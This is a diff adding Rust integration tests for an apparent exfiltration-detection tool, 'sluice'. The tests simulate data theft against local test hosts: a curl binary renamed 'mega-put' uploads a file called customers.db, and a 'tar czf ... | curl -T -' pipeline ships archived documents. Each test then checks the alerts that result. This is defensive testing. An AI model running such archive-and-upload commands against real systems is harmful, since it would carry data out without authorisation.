@@ -1,0 +1,253 @@
+//! Detection end to end on this host's kernel: real uploads to test hosts raise
+//! the rules they should, a benign mix raises nothing, and record -> replay
+//! through the real binary is deterministic.
+
+use std::{
+    process::Command,
+    time::{Duration, Instant},
+};
+
+use serde_json::Value;
+use sluice_tests::*;
+
+const ALERTS: &[&str] = &["--tick", "1s", "--probe", "cgroup"];
+
+#[test]
+fn a_curl_renamed_mega_put_uploading_200_mb_raises_the_mega_rule_within_seconds() {
+    require_root();
+    let host = TestHost::create().unwrap();
+    let dir = TempDir::new("mega");
+    let tool = dir.0.join("mega-put");
+    std::fs::copy("/usr/bin/curl", &tool).unwrap();
+    let payload = dir.0.join("customers.db");
+    // Sparse: 200 MB of zeros without writing them to disk.
+    std::fs::File::create(&payload).unwrap().set_len(200 * MB).unwrap();
+    let port = free_port();
+    let sluice = Sluice::start(ALERTS).unwrap();
+    let sink = Sink::start(Some(&host), "http", &host.peer_v4, port, &[]).unwrap();
+    let started = Instant::now();
+    let url = format!("http://{}:{}/upload", host.peer_v4, port);
+    let pid = run_child(Command::new(&tool).args(["-sS", "-o", "/dev/null", "-T"]).arg(&payload).arg(&url), Duration::from_secs(120)).unwrap();
+    sink.received().unwrap();
+    let recs = sluice
+        .wait_for("the Mega rule", Duration::from_secs(30), |r| !alerts_of(r, "sluice.exfil_tool_upload").is_empty())
+        .unwrap();
+    eprintln!("measured: Mega alert on stdout {:?} after the upload started", started.elapsed());
+    let a = alerts_of(&recs, "sluice.exfil_tool_upload")[0].clone();
+    let all = sluice.stop().unwrap();
+    assert_eq!(a["process"]["pid"], pid);
+    assert_eq!(a["process"]["name"], "mega-put");
+    assert_eq!(a["destination"]["ip"], host.peer_v4.as_str());
+    assert_eq!(a["threat"]["technique"]["id"][0], "T1567.002");
+    assert_eq!(a["threat"]["framework"], "MITRE ATT&CK");
+    assert!(a["sluice"]["bytes_out"].as_u64().unwrap() >= 5 * 1024 * 1024);
+    let reason = a["event"]["reason"].as_str().unwrap();
+    assert!(reason.starts_with(&format!("mega-put (pid {pid}, {})", tool.display())), "{reason}");
+    // Renamed, it is not "curl" to the catalog: the name and where it sends give it away.
+    assert!(a["sluice"]["indicators"].as_array().unwrap().iter().any(|i| i == "tool: MEGAcmd"), "{a}");
+    assert_eq!(alerts_of(&all, "sluice.exfil_tool_upload").len(), 1, "deduplicated to one alert");
+}
+
+#[test]
+fn tar_piped_into_curl_raises_archive_then_upload() {
+    require_root();
+    let host = TestHost::create().unwrap();
+    let dir = TempDir::new("docs");
+    let docs = dir.0.join("docs");
+    std::fs::create_dir_all(&docs).unwrap();
+    for i in 0..4 {
+        std::fs::write(docs.join(format!("report-{i}.pdf")), incompressible(1_000_000, i + 7)).unwrap();
+    }
+    let port = free_port();
+    let sluice = Sluice::start(ALERTS).unwrap();
+    let sink = Sink::start(Some(&host), "http", &host.peer_v4, port, &[]).unwrap();
+    let script = format!(
+        "tar czf - -C {} docs | /usr/bin/curl -sS -o /dev/null -T - http://{}:{}/up",
+        dir.0.display(),
+        host.peer_v4,
+        port
+    );
+    let shell = run_child(Command::new("/bin/sh").args(["-c", &script]), Duration::from_secs(60)).unwrap();
+    assert!(sink.received().unwrap() > 3_900_000);
+    let recs = sluice
+        .wait_for("archive-then-upload", Duration::from_secs(20), |r| !alerts_of(r, "sluice.archive_then_upload").is_empty())
+        .unwrap();
+    sluice.stop().unwrap();
+    let a = alerts_of(&recs, "sluice.archive_then_upload")[0];
+    assert_eq!(a["process"]["name"], "curl");
+    assert_eq!(a["process"]["parent"]["pid"], shell, "curl is the shell's child: {a}");
+    let reason = a["event"]["reason"].as_str().unwrap();
+    assert!(reason.contains("tar czf - -C") && reason.contains("same process tree"), "{reason}");
+    let ids: Vec<&str> = a["threat"]["technique"]["id"].as_array().unwrap().iter().map(|v| v.as_str().unwrap()).collect();
+    assert!(ids.contains(&"T1560.001"), "{ids:?}");
+}
+
+#[test]
+fn a_benign_mix_raises_nothing() {
+    require_root();
+    let host = TestHost::create().unwrap();
+    let dir = TempDir::new("benign");
+    let big = dir.0.join("big.iso");
+    std::fs::File::create(&big).unwrap().set_len(50 * MB).unwrap();
+    // A backup tool on the allowlist, by basename.
+    let rclone = dir.0.join("rclone");
+    std::fs::copy("/usr/bin/curl", &rclone).unwrap();
+    let config = dir.0.join("sluice.toml");
+    std::fs::write(&config, "[detect]\nallow_executables = [\"rclone\"]\n").unwrap();
+    let sluice = Sluice::start(&[ALERTS, &["--config", config.to_str().unwrap()]].concat()).unwrap();
+
+    // 1. A large download: 50 MB in, almost nothing out.
+    let port = free_port();
+    let mut server = KillOnDrop(
+        host.command("/usr/bin/python3")
+            .args(["-m", "http.server", "--bind", &host.peer_v4, &port.to_string(), "--directory"])
+            .arg(&dir.0)
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    let url = format!("http://{}:{}/big.iso", host.peer_v4, port);
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let downloaded = loop {
+        let ok = Command::new("/usr/bin/curl").args(["-sS", "-o", "/dev/null", "--fail", &url]).status().unwrap().success();
+        if ok || Instant::now() > deadline {
+            break ok;
+        }
+        std::thread::sleep(Duration::from_millis(200));
+    };
+    assert!(downloaded, "download from the test host failed");
+    let _ = server.0.kill();
+
+    // 2. A local server answering big requests: the test host downloads from us.
+    let port = free_port();
+    let mut local = KillOnDrop(
+        Command::new("/usr/bin/python3")
+            .args(["-m", "http.server", "--bind", &host.local_v4, &port.to_string(), "--directory"])
+            .arg(&dir.0)
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    let url = format!("http://{}:{}/big.iso", host.local_v4, port);
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let served = loop {
+        let ok = host.command("/usr/bin/curl").args(["-sS", "-o", "/dev/null", "--fail", &url]).status().unwrap().success();
+        if ok || Instant::now() > deadline {
+            break ok;
+        }
+        std::thread::sleep(Duration::from_millis(200));
+    };
+    assert!(served, "the test host could not download from us");
+    let _ = local.0.kill();
+
+    // 3. The allowlisted backup tool uploading 50 MB.
+    let port = free_port();
+    let sink = Sink::start(Some(&host), "http", &host.peer_v4, port, &[]).unwrap();
+    let url = format!("http://{}:{}/backup", host.peer_v4, port);
+    run_child(Command::new(&rclone).args(["-sS", "-o", "/dev/null", "-T"]).arg(&big).arg(&url), Duration::from_secs(60)).unwrap();
+    sink.received().unwrap();
+
+    std::thread::sleep(Duration::from_secs(2));
+    let recs = sluice.stop().unwrap();
+    let alerts: Vec<&Value> = recs.iter().filter(|r| r["event"]["kind"] == "alert").collect();
+    assert!(alerts.is_empty(), "benign activity raised alerts: {alerts:?}");
+}
+
+/// Write a record file: 30 simulated minutes of `backup.py` sending ~3 MB a
+/// minute to one host, then (if `spike`) a minute of 64 MB.
+fn synthetic_record(path: &std::path::Path, spike: bool) {
+    let proc_ = serde_json::json!({
+        "pid": 4000, "ppid": 1, "entity_id": "4000-1", "name": "python3",
+        "executable": "/usr/bin/python3", "args": ["python3", "backup.py"], "uid": 1000, "ancestors": []
+    });
+    let mut lines = vec![serde_json::json!({"sluice_record": 1, "host": "replay-host", "backend": "cgroup"}).to_string()];
+    let minutes = if spike { 31 } else { 30 };
+    for i in 0..minutes {
+        let bytes = if i == 30 { 64_000_000u64 } else { 3_000_000 + (i % 5) * 150_000 };
+        lines.push(
+            serde_json::json!({
+                "t": 1_800_000_000.0 + 60.0 * (i + 1) as f64,
+                "window_s": 60.0,
+                "flows": [{
+                    "process": proc_, "remote_ip": "203.0.113.9", "remote_port": 443, "transport": "tcp",
+                    "direction": "egress", "scope": "public", "bytes_out": bytes, "bytes_in": 20_000
+                }]
+            })
+            .to_string(),
+        );
+    }
+    std::fs::write(path, lines.join("\n") + "\n").unwrap();
+}
+
+fn replay(path: &std::path::Path) -> (Vec<Value>, String) {
+    let out = Command::new(sluice_bin()).arg("replay").arg(path).output().unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+    assert!(out.status.success(), "replay failed: {stderr}");
+    let recs = String::from_utf8(out.stdout)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
+        .collect();
+    (recs, stderr)
+}
+
+#[test]
+fn replay_of_a_learned_history_then_a_twenty_x_upload_raises_the_anomaly_rule_only_then() {
+    let dir = TempDir::new("replay");
+    let spike = dir.0.join("spike.jsonl");
+    let calm = dir.0.join("calm.jsonl");
+    synthetic_record(&spike, true);
+    synthetic_record(&calm, false);
+    let (alerts, _) = replay(&spike);
+    assert_eq!(alerts.len(), 1, "{alerts:?}");
+    let a = &alerts[0];
+    assert_eq!(a["rule"]["id"], "sluice.volume_anomaly");
+    assert_eq!(a["host"]["name"], "replay-host");
+    assert!(a["sluice"]["baseline"]["samples"].as_u64().unwrap() >= 20, "{a}");
+    assert!(a["event"]["reason"].as_str().unwrap().contains("baseline is"), "{a}");
+    assert_eq!(replay(&spike).0, alerts, "same file, same alerts");
+    assert!(replay(&calm).0.is_empty(), "the history alone raises nothing");
+}
+
+#[test]
+fn replay_rejects_a_corrupt_record_with_the_line_number() {
+    let dir = TempDir::new("corrupt");
+    let f = dir.0.join("bad.jsonl");
+    std::fs::write(&f, "{\"sluice_record\":1,\"host\":\"h\",\"backend\":\"x\"}\n{\"t\": 5, \"window_s\": 1}\n{garbage\n").unwrap();
+    let out = Command::new(sluice_bin()).arg("replay").arg(&f).output().unwrap();
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("line 3") && err.contains("bad.jsonl"), "{err}");
+}
+
+#[test]
+fn record_then_replay_reproduces_the_live_alerts() {
+    require_root();
+    let host = TestHost::create().unwrap();
+    let dir = TempDir::new("record");
+    let file = dir.0.join("session.jsonl");
+    let tool = dir.0.join("megasync");
+    std::fs::copy("/usr/bin/curl", &tool).unwrap();
+    let payload = dir.0.join("x.bin");
+    std::fs::File::create(&payload).unwrap().set_len(20 * MB).unwrap();
+    let sluice = Sluice::record(&file, ALERTS).unwrap();
+    let port = free_port();
+    let sink = Sink::start(Some(&host), "http", &host.peer_v4, port, &[]).unwrap();
+    let url = format!("http://{}:{}/", host.peer_v4, port);
+    run_child(Command::new(&tool).args(["-sS", "-o", "/dev/null", "-T"]).arg(&payload).arg(&url), Duration::from_secs(60)).unwrap();
+    sink.received().unwrap();
+    sluice.wait_for("the live alert", Duration::from_secs(20), |r| !alerts_of(r, "sluice.exfil_tool_upload").is_empty()).unwrap();
+    let live = sluice.stop().unwrap();
+    let (replayed, _) = replay(&file);
+    let strip = |v: &Value| {
+        let mut v = v.clone();
+        v["sluice"]["backend"] = Value::Null;
+        v
+    };
+    let live_alerts: Vec<Value> = live.iter().filter(|r| r["event"]["kind"] == "alert").map(strip).collect();
+    let replayed: Vec<Value> = replayed.iter().map(strip).collect();
+    assert!(!live_alerts.is_empty());
+    assert_eq!(live_alerts, replayed, "replay of the recording gives the live alerts");
+}
